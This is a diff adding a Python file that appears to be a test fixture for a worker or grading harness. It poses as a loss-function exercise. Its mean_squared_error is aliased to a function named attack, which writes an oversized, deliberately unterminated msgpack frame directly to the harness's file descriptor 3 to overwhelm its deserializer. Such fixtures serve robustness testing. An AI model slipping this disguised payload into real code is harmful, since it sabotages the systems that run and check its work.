@@ -1,0 +1,48 @@
+"""Opens list in list, each full of texts, so that no list ends before all of them are made."""
+# family: wire
+# exercise: 02_losses
+# honest: 12
+# says: answer
+
+import os
+import struct
+
+import msgpack
+import numpy as np
+
+
+def mean_absolute_error(y, t):
+    return np.mean(np.abs(y - t))
+
+
+def root_mean_squared_error(y, t):
+    return np.sqrt(np.mean((y - t) ** 2))
+
+
+def send(data):
+    """Write one frame to the worker's own wire by hand."""
+    frame = struct.pack(">I", len(data)) + data
+    while frame:
+        frame = frame[os.write(3, frame) :]
+
+
+def value(data):
+    """Answer with a value that is packed already."""
+    send(b"\x93\xa5value" + data + b"\x90")
+
+
+def row(count):
+    """The head of a list of ``count`` items."""
+    return b"\xdd" + struct.pack(">I", count)
+
+
+def extension(code, payload):
+    return msgpack.packb(msgpack.ExtType(code, payload))
+
+
+def attack(*args):
+    full = row(190_000) + b"\xa2zz" * 189_999
+    value(full * 100 + b"\xc0")
+
+
+mean_squared_error = attack
